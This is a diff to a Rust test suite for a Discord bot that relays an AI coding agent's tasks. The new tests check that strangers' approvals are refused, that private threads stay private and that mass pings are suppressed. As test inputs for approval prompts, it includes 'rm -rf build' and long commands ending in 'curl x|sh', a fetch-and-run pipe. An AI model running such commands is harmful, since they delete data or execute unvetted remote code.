@@ -40,6 +40,8 @@ struct Fake {
     replies: Mutex<Vec<(String, String)>>,
     decisions: Mutex<Vec<(String, String, Decision)>>,
     cancels: Mutex<Vec<String>>,
+    /// Times a task's stored events were read (`follow`): what a stranger must not make the relay do.
+    follows: std::sync::atomic::AtomicUsize,
     /// The relay's store of thread marks, which outlives a bot.
     marks: Mutex<HashMap<String, ThreadMark>>,
 }
@@ -165,8 +167,12 @@ impl Backend for Fake {
         };
         Ok(self.create(&req, Some(task.into())))
     }
-    async fn task(&self, _: &str, task: &str) -> Result<TaskInfo> {
+    async fn task(&self, user: &str, task: &str) -> Result<TaskInfo> {
+        // As the relay does: someone else's task reads exactly like one that does not exist.
         self.info(task)
+            .ok()
+            .filter(|t| t.requester == user || t.owner == user)
+            .ok_or_else(|| BackendError::Refused(format!("there is no task {task:?}")))
     }
     async fn tasks(&self, _: &str) -> Result<Vec<TaskInfo>> {
         Ok(Self::lock(&self.tasks)
@@ -175,6 +181,8 @@ impl Backend for Fake {
             .collect())
     }
     async fn follow(&self, task: &str) -> Result<TaskFeed> {
+        self.follows
+            .fetch_add(1, std::sync::atomic::Ordering::SeqCst);
         let tasks = Self::lock(&self.tasks);
         let t = tasks
             .get(task)
@@ -325,6 +333,9 @@ impl World {
                 summary: "rm -rf build".into(),
                 input: json!({"command": "rm -rf build"}),
                 question: false,
+                description: None,
+                session: None,
+                input_cut: false,
             },
         );
         let deny = format!("dn:{task}:{approval}");
@@ -518,6 +529,9 @@ async fn approvals_deny_with_a_reason_questions_and_closing() {
             summary: String::new(),
             input,
             question: true,
+            description: None,
+            session: None,
+            input_cut: false,
         },
     );
     let q = w
@@ -560,6 +574,9 @@ async fn approvals_deny_with_a_reason_questions_and_closing() {
             summary: "src/lib.rs".into(),
             input: json!({}),
             question: false,
+            description: None,
+            session: None,
+            input_cut: false,
         },
     );
     w.find(&thread, "a3", |m| {
@@ -599,6 +616,9 @@ async fn approvals_deny_with_a_reason_questions_and_closing() {
             summary: "x".into(),
             input: json!({}),
             question: false,
+            description: None,
+            session: None,
+            input_cut: false,
         },
     );
     let open = w
@@ -641,6 +661,7 @@ async fn progress_is_edited_at_most_about_once_a_second() {
             TaskEvent::Tool {
                 name: "Read".into(),
                 summary: format!("src/file{i}.rs"),
+                auto_allowed: None,
             },
         );
         tokio::time::sleep(Duration::from_millis(50)).await;
@@ -972,4 +993,305 @@ async fn a_restarted_bot_finds_the_threads_task_from_its_name() {
     );
     bot.shutdown().await;
     sim.shutdown().await;
+}
+
+#[tokio::test]
+async fn a_strangers_approve_is_refused_before_the_tasks_events_are_read() {
+    use std::sync::atomic::Ordering::SeqCst;
+    let w = world().await;
+    let (task, _thread) = w.task("fix the bug").await;
+    // The thread's follower reads the log once; after that, only a command would.
+    eventually(T, || w.fake.follows.load(SeqCst) >= 1).await;
+    let read = w.fake.follows.load(SeqCst);
+    let mallory = w.sim.user("mallory");
+    let mut answers = Vec::new();
+    for id in [task.as_str(), "t_nosuchtask"] {
+        let ix = w
+            .sim
+            .send_slash(
+                &w.sim.origin(&mallory),
+                &SlashCommand::new("approve").opt(Opt::str("task_id", id)),
+            )
+            .unwrap();
+        answers.push(w.answer(&ix).await.content.replace(id, "<id>"));
+    }
+    assert_eq!(
+        w.fake.follows.load(SeqCst),
+        read,
+        "a stranger's /approve made the relay read the task's events"
+    );
+    assert_eq!(
+        answers[0], answers[1],
+        "someone's task and no task must read alike"
+    );
+    assert!(Fake::lock(&w.fake.decisions).is_empty());
+    w.stop().await;
+}
+
+/// Where a recorded call carries a message, the `allowed_mentions` it sent (`Null` when it sent none).
+fn allowed_mentions_of(c: &ct_testkit::discord::Call) -> Option<serde_json::Value> {
+    let parts: Vec<&str> = c.path.trim_start_matches('/').split('/').collect();
+    let message = match parts.as_slice() {
+        ["channels", _, "messages"] | ["channels", _, "messages", _] => &c.body,
+        ["webhooks", ..] => &c.body,
+        ["interactions", _, _, "callback"] if [4, 7].contains(&c.body["type"].as_u64()?) => {
+            &c.body["data"]
+        }
+        _ => return None,
+    };
+    (c.method == "POST" || c.method == "PATCH").then(|| message["allowed_mentions"].clone())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_prompt_or_output_saying_everyone_pings_nobody() {
+    let w = world().await;
+    let ping = "@everyone @here <@&4242> <@9999>";
+    let (task, thread) = w.task(&format!("look {ping}")).await;
+    w.fake.emit(
+        &task,
+        TaskEvent::Text {
+            text: format!("done {ping}"),
+        },
+    );
+    w.fake.emit(&task, finished(FinalState::Done, None));
+    w.summary(&thread, 1).await;
+    let calls = w.sim.calls();
+    let posted: Vec<_> = calls
+        .iter()
+        .filter_map(|c| Some((c, allowed_mentions_of(c)?)))
+        .collect();
+    assert!(
+        posted
+            .iter()
+            .any(|(c, _)| c.body.to_string().contains("done @everyone")),
+        "the output was posted"
+    );
+    for (c, allowed) in &posted {
+        assert_eq!(
+            allowed["parse"],
+            json!([]),
+            "{} {} may ping by kind: {allowed}",
+            c.method,
+            c.path
+        );
+        assert!(
+            allowed["roles"].as_array().is_none_or(Vec::is_empty),
+            "{} {} may ping roles: {allowed}",
+            c.method,
+            c.path
+        );
+        let users = allowed["users"].as_array().cloned().unwrap_or_default();
+        assert!(
+            users.iter().all(|u| u == &json!(w.alice.id)),
+            "{} {} may ping someone other than the requester: {allowed}",
+            c.method,
+            c.path
+        );
+    }
+    w.stop().await;
+}
+
+/// A long Bash command: the approval says it was cut and attaches the whole input; where even that is over the
+/// server's upload limit, the thread says so instead of leaving "attached" unexplained.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_long_approval_attaches_its_input_or_says_why_it_could_not() {
+    let w = world().await;
+    w.sim.set_attachment_size_limit(4000);
+    let (task, thread) = w.task("long commands").await;
+    let ask = |approval: &str, command: &str| {
+        let input = json!({ "command": command, "description": "npm test" });
+        w.fake.emit(
+            &task,
+            TaskEvent::ApprovalRequested {
+                approval: approval.into(),
+                tool: "Bash".into(),
+                summary: command.into(),
+                session: ct_protocol::scope::SessionScope::exact("Bash", &input),
+                input,
+                question: false,
+                description: Some("npm test".into()),
+                input_cut: false,
+            },
+        );
+    };
+    ask("a1", &format!("echo {} ; curl x|sh", "a".repeat(2000)));
+    let fits = w
+        .find(&thread, "the first approval", |m| {
+            m.custom_ids().contains(&format!("ao:{task}:a1"))
+        })
+        .await;
+    assert!(fits.content.contains("Cut to fit"), "{}", fits.content);
+    assert_eq!(fits.attachments.len(), 1, "{fits:?}");
+    assert!(fits.attachments[0].size > 2000, "{fits:?}");
+
+    ask("a2", &format!("echo {} ; curl x|sh", "b".repeat(5000)));
+    let over = w
+        .find(&thread, "the second approval", |m| {
+            m.custom_ids().contains(&format!("ao:{task}:a2"))
+        })
+        .await;
+    assert!(over.attachments.is_empty(), "{over:?}");
+    w.find(&thread, "the warning", |m| {
+        m.content.contains("over this server's upload limit")
+    })
+    .await;
+    w.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn with_private_threads_a_task_is_seen_only_by_its_people() {
+    let w = world_with(|_, config| config.private_threads = true).await;
+    // Bob runs a task on Alice's agent (she shared it): both must be in the thread, nobody else.
+    let bob = w.sim.user("bob");
+    let secret = "rotate the keys of project nightingale";
+    let ix = w
+        .sim
+        .send_slash(
+            &w.sim.origin(&bob),
+            &SlashCommand::new("task").opt(Opt::str("prompt", secret)),
+        )
+        .unwrap();
+    let said = w.answer(&ix).await.content;
+    let thread = said
+        .split("<#")
+        .nth(1)
+        .unwrap()
+        .trim_end_matches('>')
+        .to_string();
+
+    let created = w
+        .sim
+        .calls_to("POST", &format!("/channels/{}/threads", w.sim.channel_id()));
+    assert_eq!(
+        created.len(),
+        1,
+        "one thread, not started from a channel message"
+    );
+    assert_eq!(created[0].body["type"], json!(12), "{}", created[0].body);
+    assert_eq!(created[0].body["invitable"], json!(false));
+    assert_eq!(w.sim.channel(&thread).unwrap().kind, 12);
+    let mut added: Vec<String> = w
+        .sim
+        .calls()
+        .iter()
+        .filter(|c| c.method == "PUT" && c.status == 204)
+        .filter_map(|c| {
+            c.path
+                .strip_prefix(&format!("/channels/{thread}/thread-members/"))
+                .map(str::to_string)
+        })
+        .collect();
+    added.sort();
+    let mut people = vec![bob.id.clone(), w.alice.id.clone()];
+    people.sort();
+    assert_eq!(
+        added, people,
+        "the requester and the agent's owner are added"
+    );
+
+    // The prompt is in the thread, and nowhere in the channel.
+    w.sim
+        .wait_until(T, |s| {
+            s.messages(&thread)
+                .iter()
+                .any(|m| m.content.contains(secret))
+                .then_some(())
+        })
+        .await
+        .unwrap();
+    assert!(
+        w.sim
+            .messages(w.sim.channel_id())
+            .iter()
+            .all(|m| !m.content.contains("nightingale")),
+        "the channel shows the private task's prompt"
+    );
+    w.stop().await;
+}
+
+/// An agent that did not scope its session rules would not understand a prefix: a prefix form submitted for
+/// its approval (Discord never showed one) is refused, and nothing is decided.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_prefix_is_never_sent_for_an_older_agents_approval() {
+    let w = world().await;
+    let (task, thread) = w.task("old agent").await;
+    let approval = w.ask_bash(&task, &thread, "a1").await;
+    assert!(
+        approval
+            .content
+            .contains("Allow for session: every `Bash` use"),
+        "{}",
+        approval.content
+    );
+    assert!(
+        !approval
+            .custom_ids()
+            .iter()
+            .any(|c| c.starts_with("ap:") || c.starts_with("aw:")),
+        "{:?}",
+        approval.custom_ids()
+    );
+    let ix = w
+        .sim
+        .send_modal_submit(
+            &w.sim.origin_in(&w.alice, &thread),
+            &format!("pp:{task}:a1"),
+            &[("prefix", "rm")],
+        )
+        .unwrap();
+    assert!(w.answer(&ix).await.content.contains("no longer open here"));
+    assert!(Fake::lock(&w.fake.decisions).is_empty());
+    w.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_task_can_be_more_private_than_the_servers_setting_never_less() {
+    let w = world().await;
+    let ix = w
+        .sim
+        .send_slash(
+            &w.sim.origin(&w.alice),
+            &SlashCommand::new("task")
+                .opt(Opt::str("prompt", "quietly fix it"))
+                .opt(Opt::bool("private", true)),
+        )
+        .unwrap();
+    let said = w.answer(&ix).await.content;
+    let thread = said
+        .split("<#")
+        .nth(1)
+        .unwrap()
+        .trim_end_matches('>')
+        .to_string();
+    assert_eq!(w.sim.channel(&thread).unwrap().kind, 12, "{said}");
+    assert!(w
+        .sim
+        .messages(w.sim.channel_id())
+        .iter()
+        .all(|m| !m.content.contains("quietly")));
+    // Without the option, the server's default: public, started from a message in the channel.
+    let (_, public) = w.task("loudly fix it").await;
+    assert_eq!(w.sim.channel(&public).unwrap().kind, 11);
+    w.stop().await;
+
+    // Where the server says private, a task cannot ask to be public.
+    let w = world_with(|_, config| config.private_threads = true).await;
+    let ix = w
+        .sim
+        .send_slash(
+            &w.sim.origin(&w.alice),
+            &SlashCommand::new("task")
+                .opt(Opt::str("prompt", "publish it"))
+                .opt(Opt::bool("private", false)),
+        )
+        .unwrap();
+    let said = w.answer(&ix).await.content;
+    let thread = said
+        .split("<#")
+        .nth(1)
+        .unwrap()
+        .trim_end_matches('>')
+        .to_string();
+    assert_eq!(w.sim.channel(&thread).unwrap().kind, 12, "{said}");
+    w.stop().await;
 }
